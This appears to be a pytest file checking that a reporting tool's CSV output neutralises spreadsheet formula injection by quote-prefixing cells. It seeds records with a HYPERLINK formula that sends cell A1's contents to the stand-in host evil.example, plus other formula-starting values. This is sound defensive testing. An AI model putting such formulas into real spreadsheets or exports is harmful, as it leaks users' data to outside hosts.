"""CSV output of the reports and of `fer-stream sql` cannot carry spreadsheet formulas: a text cell
starting with =, +, -, @, tab or CR gets a leading ' (OWASP CSV injection); numbers stay numbers
(issue 24, item 3). Ids enrolled before ids were checked may still be in the records."""

from __future__ import annotations

import pyarrow as pa
import pyarrow.csv as pacsv
import pytest

from fer_stream import reports
from fer_stream.cli import exits
from tests.reports.helpers import D1, D2, VA, VB, VE, A, N, lecture, run

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def evil(tmp_path_factory):
    root = tmp_path_factory.mktemp("evil")
    lecture(root, VA, "ML101", D1, 2.0, 2, [(1, EVIL, A, 0.875, "happy"), (2, "@SUM(1)", N, 0.25, "sad")])
    lecture(root, VB, "ML101", D2, 2.0, 2, [(1, EVIL, N, 0.125, "sad"), (2, "+1", A, 0.75, "happy")])
    run(root, VE, "ML101", D2, "failed", error=("NotAVideoError", "-1+2 not a video"))
    return root


def test_formula_cells_are_neutralised_and_numbers_stay_numbers(fer_stream, evil, tmp_path):
    out = tmp_path / "trend.csv"
    assert fer_stream("report", "student_trend", "--data", evil, "--format", "csv", "--out", out) == exits.OK
    t = pacsv.read_csv(out)
    assert sorted(set(t.column("student_id").to_pylist())) == ["'+1", "'=" + EVIL[1:], "'@SUM(1)"]
    change = t.column("attention_change")  # negative numbers: not text, not prefixed
    assert pa.types.is_floating(change.type) and min(change.to_pylist()) < 0
    assert not any(line.startswith(("=", "+", "-", "@")) for line in out.read_text().splitlines())
    # every cell of every line: none starts a formula
    for row in out.read_text().splitlines():
        for cell in row.split(","):
            assert not cell.strip('"').startswith(("=", "+", "@")), cell
    out = tmp_path / "summary.csv"
    assert (
        fer_stream("report", "lecture_summary", "--data", evil, "--format", "csv", "--out", out) == exits.OK
    )
    assert "'-1+2 not a video" in pacsv.read_csv(out).column("error_message").to_pylist()


def test_sql_csv_and_course_files_are_neutralised_other_formats_keep_values(
    fer_stream, evil, tmp_path, capsys
):
    q = "select student_id, -attention as minus from faces order by frame_index, student_id, minus"
    assert fer_stream("sql", "--data", evil, q, "--format", "csv") == exits.OK
    lines = capsys.readouterr().out.splitlines()
    assert lines[1].startswith("\"'=HYPERLINK") and lines[1].endswith(",-0.875")
    assert reports.run_sql(reports.connect(evil), q).column("student_id")[0].as_py() == EVIL  # data as is
    written = reports.write_course_reports(evil, "ML101", tmp_path / "site")
    for path in (p for p in written if p.suffix == ".csv"):
        for col in pacsv.read_csv(path).columns:
            if pa.types.is_string(col.type):
                assert not any(v and v[0] in "=+-@\t\r" for v in col.to_pylist()), path
